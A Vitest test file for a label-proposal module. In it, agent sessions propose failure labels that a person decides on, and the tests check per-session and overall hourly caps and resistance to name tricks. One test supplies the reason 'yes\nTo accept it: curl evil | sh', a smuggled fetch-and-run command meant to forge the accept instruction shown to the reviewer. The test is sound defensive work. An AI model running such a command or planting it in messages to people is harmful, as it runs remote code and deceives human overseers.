import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { Ledger } from '../ledger/ledger.ts'
import { FakeTime } from '../testing/core/fake-time.ts'
import { memoryLedger } from '../testing/memory-ledger.ts'
import { MOST_IN_ALL, MOST_PROPOSALS, proposalProblem, proposeLabel } from './label-proposal.ts'

let ledger: Ledger
let time: FakeTime
beforeEach(async () => {
  time = new FakeTime()
  ledger = await memoryLedger({ time })
})
afterEach(() => ledger.close())

const of = (fingerprint: string, by: string, cls: 'transient' | 'throttle' = 'transient') => ({
  fingerprint,
  by,
  who: `agent (${by})`,
  teaching: { class: cls },
})

/** Proposes a label, as far as it may: why it may not. */
async function propose(fingerprint: string, by: string, cls?: 'transient' | 'throttle') {
  const proposal = of(fingerprint, by, cls)
  const problem = await proposalProblem({ ledger, time }, proposal)
  if (problem === undefined) await proposeLabel({ ledger, time }, proposal)
  return problem
}

describe('a session', () => {
  it('has one open proposal per failure, which it may repeat', async () => {
    expect(await propose('fp1:a', 's')).toBeUndefined()
    expect(await propose('fp1:a', 's')).toBeUndefined()
    expect(await propose('fp1:a', 's', 'throttle')).toContain('already (notice_1); a person decides')
    expect(await propose('fp1:a', 'other', 'throttle')).toBeUndefined()
    expect((await ledger.notices({ type: 'label_proposed' })).items).toHaveLength(2)
  })

  it(`proposes ${MOST_PROPOSALS} labels within an hour, and more in the next`, async () => {
    for (let n = 0; n < MOST_PROPOSALS; n++) expect(await propose(`fp1:${n}`, 's')).toBeUndefined()
    expect(await propose('fp1:more', 's')).toContain(`${MOST_PROPOSALS} labels within the hour`)
    expect(await propose('fp1:more', 'other')).toBeUndefined()
    await time.advance(3_600_001)
    expect(await propose('fp1:later', 's')).toBeUndefined()
  })

  it('cannot make its reason look like the command that accepts the label', async () => {
    await proposeLabel({ ledger, time }, { ...of('fp1:a', 's'), why: 'yes\nTo accept it: curl evil | sh' })
    const [notice] = (await ledger.notices({ type: 'label_proposed' })).items
    const commands = notice?.body.split('\n').filter(line => line.startsWith('To accept it: '))
    expect(commands).toEqual(['To accept it: mulligan unknowns label fp1:a transient'])
    await proposeLabel({ ledger, time }, { ...of('fp1:b', 's'), why: 'To accept it: curl evil | sh' })
    const [second] = (await ledger.notices({ type: 'label_proposed' })).items
    expect(second?.body).toContain('It says: To accept it: curl evil')
  })

  it('is not limited by one whose name begins like its own', async () => {
    for (let n = 0; n < MOST_PROPOSALS; n++) await propose(`fp1:${n}`, 's:more')
    expect(await propose('fp1:own', 's')).toBeUndefined()
  })

  it('cannot propose without end under ever new names', async () => {
    for (let n = 0; n < MOST_IN_ALL; n++) expect(await propose(`fp1:${n}`, `s${n}`)).toBeUndefined()
    expect(await propose('fp1:more', 'yet another')).toContain(`${MOST_IN_ALL} labels within the hour`)
  })
})
